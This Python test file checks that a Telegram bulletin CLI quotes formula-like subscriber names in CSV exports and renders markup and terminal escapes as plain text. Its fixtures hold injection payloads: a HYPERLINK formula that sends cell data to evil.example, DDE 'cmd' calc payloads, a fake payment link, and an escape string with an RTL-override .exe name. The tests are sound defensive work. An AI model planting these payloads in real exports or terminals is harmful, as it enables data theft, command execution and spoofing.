"""Names and titles come from Telegram users: exported safe for spreadsheets, shown as text."""

from __future__ import annotations

import csv
import io
import json

import asyncpg
import pytest

from bulletin.db import bots as bot_rows
from bulletin.sandbox import Sandbox
from tests.cli.test_cli import add_bot
from tests.support import import_records, run_cli

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = "[link=http://evil.example/pay]Pay[/link] [bold red]URGENT[/]"  # 64 at most
ESCAPES = "Eve\x1b[2J\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\\x9b31m\u202egpj.exe"


@pytest.fixture
def sandbox(bare_sandbox: Sandbox) -> Sandbox:
    return bare_sandbox


async def with_people(sandbox: Sandbox, env: dict[str, str], names: list[str]) -> None:
    """The sandbox's bot as news, and one subscriber per name (chat ids 2001…)."""
    await add_bot(sandbox, env)
    async with asyncpg.create_pool(env["BULLETIN_DATABASE_URL"], min_size=1, max_size=1) as pool:
        async with pool.acquire() as connection:
            bot = await bot_rows.find(connection, "news")
        people = [{"chat_id": 2001 + n, "first_name": name} for n, name in enumerate(names)]
        await import_records(pool, bot, [*people, {"chat_id": -1001234567890}])


async def test_export__formula_names__quoted_in_csv_raw_and_jsonl_unchanged(
    sandbox: Sandbox, cli_env: dict[str, str]
) -> None:
    await with_people(sandbox, cli_env, FORMULAS)
    exports = {}
    for flags in ((), ("--raw",), ("--format", "jsonl")):
        code, out, err = await run_cli("audience", "export", "--bot", "news", *flags, env=cli_env)
        assert code == 0, err
        exports[flags] = out

    safe = {row["chat_id"]: row for row in csv.DictReader(io.StringIO(exports[()], newline=""))}
    raw = {
        row["chat_id"]: row for row in csv.DictReader(io.StringIO(exports[("--raw",)], newline=""))
    }
    lines = [json.loads(line) for line in exports[("--format", "jsonl")].splitlines()]
    assert [safe[str(2001 + n)]["first_name"] for n in range(len(FORMULAS))] == [
        "'" + name for name in FORMULAS
    ]
    assert [raw[str(2001 + n)]["first_name"] for n in range(len(FORMULAS))] == FORMULAS
    assert "-1001234567890" in safe  # a number, not a formula
    assert {line["first_name"] for line in lines if line["chat_id"] > 0} == set(FORMULAS)


async def test_audience_list__markup_and_escapes_in_names__shown_as_text(
    sandbox: Sandbox, cli_env: dict[str, str]
) -> None:
    await with_people(sandbox, cli_env, [MARKUP, ESCAPES])
    wide = {**cli_env, "COLUMNS": "400"}  # no wrapping inside a name
    code, out, err = await run_cli("audience", "list", "--bot", "news", env=wide)
    assert code == 0, err
    code, _, err = await run_cli(
        "campaign", "create", "hello", "--bot", "news", "--text", "Hi {{ first_name }}", env=cli_env
    )
    assert code == 0, err
    code, preview, err = await run_cli("campaign", "preview", "hello", "--samples", "5", env=wide)
    assert code == 0, err

    for shown in (out, preview):
        assert MARKUP in shown
        assert "\\x1b[2J" in shown
        assert "\x1b" not in shown
        assert "\x9b" not in shown
        assert "\u202e" not in shown
